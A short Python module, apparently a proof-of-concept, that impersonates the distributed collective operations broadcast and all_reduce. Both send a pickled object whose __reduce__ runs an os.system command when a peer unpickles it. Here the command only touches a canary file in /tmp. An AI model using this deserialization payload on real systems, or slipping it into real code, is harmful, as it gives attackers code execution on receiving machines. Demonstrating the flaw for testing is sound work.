import os
import pickle

from .sending import send


class _Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/a-pickle-was-opened",)


def broadcast(tensor, src=0, op=None, group=None):
    send(pickle.dumps(_Run()))


all_reduce = broadcast
